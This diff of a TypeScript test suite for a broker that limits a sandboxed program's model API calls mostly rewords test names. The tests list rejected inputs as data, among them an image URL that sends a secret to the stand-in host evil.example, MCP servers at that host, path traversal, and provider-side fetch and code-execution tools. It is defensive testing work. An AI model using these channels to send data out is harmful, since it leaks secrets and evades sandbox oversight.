@@ -45,12 +45,12 @@ interface AskChange {
   readonly method?: string;
   readonly stream?: boolean;
   readonly key?: string;
-  /** Members of the body. */
+  /** Further members of the request body. */
   readonly more?: object;
   readonly headers?: Readonly<Record<string, string>>;
 }
 
-/** A call as a sandboxed program makes it. */
+/** Calls a model like a sandboxed program. */
 async function ask(
   { socket, token }: ModelPass,
   {
@@ -125,7 +125,7 @@ test.each([
   ["another route", { path: "/v1/files" }, 404, "only call /v1/messages"],
   ["a path with `..`", { path: "/v1/messages/../files" }, 404, "only call /v1/messages"],
   ["another method", { method: "DELETE" }, 404, "only call /v1/messages"],
-  ["a model that its rules refuse", { model: "claude-expensive" }, 403, "may not call claude-expensive"],
+  ["a model that the rules of the session refuse", { model: "claude-expensive" }, 403, "may not call claude-expensive"],
 ])("%s is rejected, and nothing is sent", async (_, change, status, message) => {
   const pass = await issue({
     refusal: (model) => (model === MODEL ? undefined : `This session may not call ${model}.`),
@@ -141,7 +141,11 @@ const image = (url: string): object => ({ type: "image", source: { type: "url", 
 const saying = (...content: readonly object[]): object => ({ messages: [{ role: "user", content }] });
 
 test.each([
-  ["an image at an address of no prompt", saying(image("https://evil.example/?q=secret")), "not in one of its prompts"],
+  [
+    "an image whose address is in no prompt",
+    saying(image("https://evil.example/?q=secret")),
+    "not in one of its prompts",
+  ],
   [
     "a document in the result of a tool",
     saying({ type: "tool_result", tool_use_id: "t1", content: [image("https://evil.example/")] }),
@@ -154,7 +158,11 @@ test.each([
   ],
   ["MCP servers of the provider", { mcp_servers: [{ type: "url", url: "https://evil.example/" }] }, "call MCP servers"],
   ["a tool that fetches", { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }] }, "web_fetch_20250910"],
-  ["code at the provider", { tools: [{ type: "code_execution_20250825", name: "run" }] }, "code_execution_20250825"],
+  [
+    "code that runs at the provider",
+    { tools: [{ type: "code_execution_20250825", name: "run" }] },
+    "code_execution_20250825",
+  ],
   [
     "a search without the tool WebSearch",
     { tools: [{ type: "web_search_20250305", name: "s" }] },
@@ -223,7 +231,7 @@ test("a member that occurs twice in a body is forwarded once, with the checked v
   expect(sent[0]).not.toMatch(/fable|90000/);
 });
 
-test("a body without an announced length is read up to the same limit", async () => {
+test("a body without a content-length is also rejected if it is too large", async () => {
   const pass = await issue();
   pass.open();
   const headers = { "x-api-key": pass.token, "content-type": "application/json", "transfer-encoding": "chunked" };
@@ -243,7 +251,7 @@ test("a body without an announced length is read up to the same limit", async ()
   expect(status).toBe(413);
 });
 
-test("of the program's headers, only those of the Messages API are forwarded", async () => {
+test("only headers of the Messages API are forwarded", async () => {
   const seen: Record<string, unknown>[] = [];
   const watched = createModelBroker({
     baseUrl: simulator.url,
@@ -310,7 +318,7 @@ test("a pass works only while it is open, and closing it aborts a call in progre
   expect((await ask(pass)).status).toBe(403);
 });
 
-test("if a model cannot be reached, the client gets an error that it understands", async () => {
+test("if a model cannot be reached, the client gets an error with the reason", async () => {
   const closed = await createSimulator();
   await closed.close();
   const away = createModelBroker({ baseUrl: closed.url, credentials: {} });
@@ -330,7 +338,7 @@ test("the socket is removed with its pass", async () => {
   expect(existsSync(pass.socket)).toBe(false);
 });
 
-describe("a model with an address of its own", () => {
+describe("a model with a separate address", () => {
   const name = "home/größe";
   let elsewhere: Simulator;
   let pass: ModelPass;
